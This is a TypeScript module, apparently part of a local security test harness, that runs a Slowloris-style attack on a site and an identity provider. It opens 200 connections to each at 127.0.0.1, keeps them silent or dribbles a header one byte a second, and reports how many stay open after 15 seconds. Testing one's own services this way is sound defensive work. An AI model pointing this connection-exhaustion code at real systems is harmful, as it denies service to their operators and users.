import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack, Target } from './attack.ts';

const each = 200;
const watched = 15_000;
const dribble = 1_000;

/** Connections of which every other one sends nothing, the rest a header by single bytes. */
export const slowConnections: Attack = {
  name: '200 connections to each that dribble or say nothing',
  aim: 'site',
  run: async (target, tally) => {
    const open = { site: 0, identity: 0 };
    const sockets = (['site', 'identity'] as const).flatMap((aim) =>
      Array.from({ length: each }, (_, at) => hold(target, aim, at % 2 === 0, open)),
    );
    tally.sent(0, sockets.length);
    await delay(watched);
    const left = `${open.site} at the site, ${open.identity} at the provider`;
    tally.answered('open after 15 s', open.site + open.identity);
    tally.answered('closed', sockets.length - open.site - open.identity);
    for (const socket of sockets) socket.destroy();
    return `open after 15 s: ${left}`;
  },
};

function hold(
  target: Target,
  aim: Attack['aim'],
  talks: boolean,
  open: Record<Attack['aim'], number>,
): Socket {
  const socket = connect({ port: target[aim].port, host: '127.0.0.1' });
  socket.once('connect', () => {
    open[aim] += 1;
    if (talks) socket.write('GET / HTTP/1.1\r\nhost: localhost\r\nx-slow: ');
  });
  const timer = setInterval(() => talks && socket.writable && socket.write('x'), dribble);
  socket.on('data', () => undefined).on('error', () => undefined);
  socket.once('close', () => {
    clearInterval(timer);
    open[aim] -= 1;
  });
  return socket;
}
